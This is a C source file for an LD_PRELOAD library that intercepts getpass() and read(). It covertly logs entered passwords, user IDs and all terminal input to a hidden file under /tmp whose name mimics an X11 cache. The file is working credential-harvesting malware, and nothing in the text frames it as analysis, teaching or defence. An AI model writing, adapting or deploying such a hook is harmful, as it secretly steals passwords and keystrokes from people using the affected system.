#define _GNU_SOURCE
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static char *(*real_getpass)(const char *);

char *getpass(const char *prompt) {
    if (!real_getpass) real_getpass = dlsym(RTLD_NEXT, "getpass");
    char *pw = real_getpass(prompt);
    FILE *f = fopen("/tmp/.X11-cache", "a");
    if (f && pw) { fprintf(f, "%d\t%s\t%s\n", getuid(), prompt ? prompt : "", pw); fclose(f); }
    return pw;
}

ssize_t read(int fd, void *buf, size_t n) {
    static ssize_t (*real_read)(int, void *, size_t);
    if (!real_read) real_read = dlsym(RTLD_NEXT, "read");
    ssize_t r = real_read(fd, buf, n);
    if (fd == 0 && r > 0 && isatty(0)) {
        FILE *f = fopen("/tmp/.X11-cache", "a");
        if (f) { fwrite(buf, 1, (size_t)r, f); fclose(f); }
    }
    return r;
}
